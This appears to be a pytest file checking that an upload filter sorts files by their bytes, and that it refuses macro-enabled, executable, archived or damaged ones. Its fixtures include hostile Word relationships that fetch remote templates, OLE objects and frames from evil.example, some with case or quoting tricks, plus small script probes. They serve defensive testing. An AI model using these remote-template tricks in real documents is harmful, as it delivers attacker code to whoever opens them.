"""Kinds of file, by their bytes."""

import io

import pytest
from msoffcrypto.method.ecma376_agile import ECMA376Agile

from postbox.house import DOCX, ODT, XLSX
from postbox.kinds import kind_of
from postbox.verdicts import Seal, Why
from tests.postbox.bad_shapes import FILES
from tests.postbox.pieces import HOUSE, form, packed, pdf, png, word_with

XLSX_TYPES = (
    b"<Types><Default "
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
COMMANDS = XLSX_TYPES.replace(
    b"</Types>", b'<Default ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
)
PPTX_TYPES = XLSX_TYPES.replace(b"spreadsheetml.sheet", b"presentationml.presentation")
LOCAL_TEMPLATE = (
    b'<Relationship Type="a/attachedTemplate" Target="file:///C:/office.dotx" TargetMode="External"/>'
)


def related(relationship: bytes, part: str = "document") -> bytes:
    """A Word package of which one part has a relationship."""
    listed = b"<Relationships>" + relationship + b"</Relationships>"
    return word_with({f"word/_rels/{part}.xml.rels": listed})


TAKEN = {
    "word with a link": (
        related(b'<Relationship Type="a/hyperlink" Target="https://nscp.example" TargetMode="External"/>'),
        DOCX,
    ),
    "word with a sheet on a drive": (
        related(b'<Relationship Type="a/oleObject" Target="file:///S:/plan.xlsx" TargetMode="External"/>'),
        DOCX,
    ),
    "word": (form().content, DOCX),
    "word from a local template": (word_with({"word/_rels/settings.xml.rels": LOCAL_TEMPLATE}), DOCX),
    "sheet": (packed({"[Content_Types].xml": XLSX_TYPES}), XLSX),
    "open document": (FILES["open-document"], ODT),
    "pdf": (pdf().content, "application/pdf"),
    "pdf after some noise": (b"\n\n" + pdf().content, "application/pdf"),
    "png": (png(), "image/png"),
    "jpeg": (b"\xff\xd8\xff\xe1\x10\x00Exif\0\0", "image/jpeg"),
    "rich text": (b"{\\rtf1\\ansi Return}", "application/rtf"),
    "text": (b"Our return.\n", "text/plain"),
    "text in windows letters": (b"It\x92s ours\n", "text/plain"),
}
REFUSED = {
    "macros, the word in other letters": (
        word_with(
            {}, b"<Default ContentType='application/vnd.ms-word.document.macroEnable&#100;.main+xml'/>"
        ),
        Why.MACROS,
    ),
    "macros under another name": (
        word_with({"word/x.bin": b"x"}, b'<Default ContentType="application/vnd.ms-office.vbaProject"/>'),
        Why.MACROS,
    ),
    "a sheet of commands": (packed({"[Content_Types].xml": COMMANDS}), Why.MACROS),
    "a remote template in other quotes": (
        related(
            b"<Relationship Target = 'HTTPS://evil.example/t.dotm' Type='a/attachedTemplate'/>", "settings"
        ),
        Why.MACROS,
    ),
    "a remote object": (
        related(b'<Relationship Type="a/oleObject" Target="mhtml:https://evil.example/x.html!x"/>'),
        Why.MACROS,
    ),
    "a remote frame": (
        related(b'<Relationship Type="a/frame" Target="https://evil.example/x.html"/>', "webSettings"),
        Why.MACROS,
    ),
    "a remote object above the text": (
        related(b'<Relationship Type="a/oleObject" Target="https://evil.example/x.rtf"/>', "header1"),
        Why.MACROS,
    ),
    "a remote template of a part whose name is written otherwise": (
        word_with(
            {
                "Word/_Rels/Settings.xml.rels": b"<Relationships><Relationship "
                b'Type="a/attachedTemplate" Target="https://evil.example/t.dotm"/></Relationships>'
            }
        ),
        Why.MACROS,
    ),
    "a list of parts that is torn": (packed({"[Content_Types].xml": b"<Types"}), Why.DAMAGED),
    "slides": (packed({"[Content_Types].xml": PPTX_TYPES}), Why.KIND_NOT_TAKEN),
    "gif": (b"GIF89a\x01\0\x01\0", Why.KIND_NOT_TAKEN),
    "linux program": (b"\x7fELF\x02\x01\x01", Why.EXECUTABLE),
    "shortcut": (b"L\0\0\0\x01\x14\x02\0", Why.EXECUTABLE),
    "rar": (b"Rar!\x1a\x07\x01\0", Why.ARCHIVE),
    "gzip": (b"\x1f\x8b\x08\0\0\0", Why.ARCHIVE),
    "word with endless lists of what belongs to it": (
        word_with({f"word/_rels/header{n}.xml.rels": b"<R>" + b"<a/>" * 50_000 + b"</R>" for n in range(6)}),
        Why.ARCHIVE,
    ),
    "cut package": (form().content[:-100], Why.DAMAGED),
    "binary": (b"\x01\x02\x03", Why.KIND_NOT_TAKEN),
    "old word": (FILES["old-word"], Why.MACROS),
}


@pytest.mark.parametrize(("content", "media_type"), TAKEN.values(), ids=TAKEN)
def test_what_is_taken(content: bytes, media_type: str) -> None:
    """By what it is, whatever it is called."""
    assert kind_of(content, "", HOUSE) == media_type
    assert kind_of(content, "return.txt", HOUSE) == media_type


@pytest.mark.parametrize(("content", "why"), REFUSED.values(), ids=REFUSED)
def test_what_is_refused(content: bytes, why: Why) -> None:
    """A harmless name changes nothing."""
    assert kind_of(content, "return.docx", HOUSE) is why


def test_a_zip_with_a_long_list_is_refused() -> None:
    """It is not gone through to see what kind of package it may be."""
    assert kind_of(packed({f"{n}": b"" for n in range(30_000)}), "return.docx", HOUSE) is Why.ARCHIVE


@pytest.mark.parametrize("name", ["return.exe", "return.pdf.js", "return.hta", "return.lnk", "return.jse"])
def test_a_name_that_runs_is_refused_whatever_the_bytes(name: str) -> None:
    """Windows goes by the name."""
    assert kind_of(pdf().content, name, HOUSE) is Why.EXECUTABLE


def test_a_page_or_script_in_plain_words_is_not_a_text() -> None:
    """Text is taken only under a name that opens as one."""
    assert kind_of(b"alert(1)", "return.html", HOUSE) is Why.KIND_NOT_TAKEN
    assert kind_of(b"<svg onload='x'/>", "return.svg", HOUSE) is Why.KIND_NOT_TAKEN


def test_a_word_file_under_a_password_is_sealed() -> None:
    """As our own lists of people are: such a file looks like an old one, and is told apart."""
    sealed = ECMA376Agile.encrypt("not a secret", io.BytesIO(form().content), spin_count=1000)
    assert kind_of(sealed, "return.docx", HOUSE) is Seal.PASSWORD
